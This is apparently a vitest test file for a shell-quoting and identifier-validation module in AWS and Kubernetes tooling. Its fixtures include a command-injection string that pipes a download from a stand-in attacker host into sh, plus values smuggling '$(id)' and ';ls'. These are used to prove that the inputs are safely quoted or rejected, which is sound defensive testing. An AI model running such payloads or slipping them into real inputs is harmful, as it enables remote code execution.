import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isIdentifier, shellQuote, shellWord } from './shell-quote.js';

/** What sh makes of the word: the one argument printf receives. */
function throughSh(word: string): string {
  const run = spawnSync('sh', ['-c', `printf '%s' ${word}`], { encoding: 'utf8' });
  return run.stdout;
}

const HOSTILE = 'i-0abc; curl https://evil.example/x | sh #';

describe('shellWord', () => {
  it('Given the hostile instance-id tag, When made a shell word, Then sh reads it back as one literal argument', () => {
    expect(shellWord(HOSTILE)).toBe(shellQuote(HOSTILE));
    expect(throughSh(shellWord(HOSTILE))).toBe(HOSTILE);
  });

  it('Given an ARN, an account/user reference and a placeholder, When made shell words, Then they stay bare', () => {
    for (const value of ['arn:aws:iam::111111111111:role/roleshift/app', '111111111111/deployer', 'REPLACE_ME_X'])
      expect(shellWord(value)).toBe(value);
  });

  it('Given words starting with -, = or ~, When made shell words, Then they are quoted', () => {
    for (const value of ['-rf', '=ls', '~root']) expect(shellWord(value)).toBe(shellQuote(value));
  });

  it('Given any text without NUL, When made a shell word, Then sh reads it back unchanged as one argument', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 40 }).filter((value) => value.length > 0 && !value.includes('\0')),
        (value) => {
          expect(throughSh(shellWord(value))).toBe(value);
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('isIdentifier', () => {
  it.each([
    ['EC2 instance id', 'i-0abc1234', true],
    ['EC2 instance id', 'i-0123456789abcdef0', true],
    ['EC2 instance id', HOSTILE, false],
    ['EC2 instance id', 'i-0ABC1234', false],
    ['account id', '111111111111', true],
    ['account id', '11111111111', false],
    ['ARN', 'arn:aws:iam::111111111111:role/roleshift/app', true],
    ['ARN', 'arn:aws:iam::111111111111:role/x$(id)', false],
    ['Kubernetes name', 'payments', true],
    ['Kubernetes name', 'Payments', false],
    ['EKS cluster name', 'prod-1', true],
    ['EKS cluster name', 'prod 1', false],
    ['Lambda function name', 'thumbnailer', true],
    ['Lambda function name', 'arn:aws:lambda:us-east-1:111111111111:function:thumbnailer', true],
    ['Lambda function name', 'thumb;ls', false],
  ] as const)('Given a %s %j, When checked, Then it is valid: %s', (kind, value, valid) => {
    expect(isIdentifier(kind, value)).toBe(valid);
  });
});
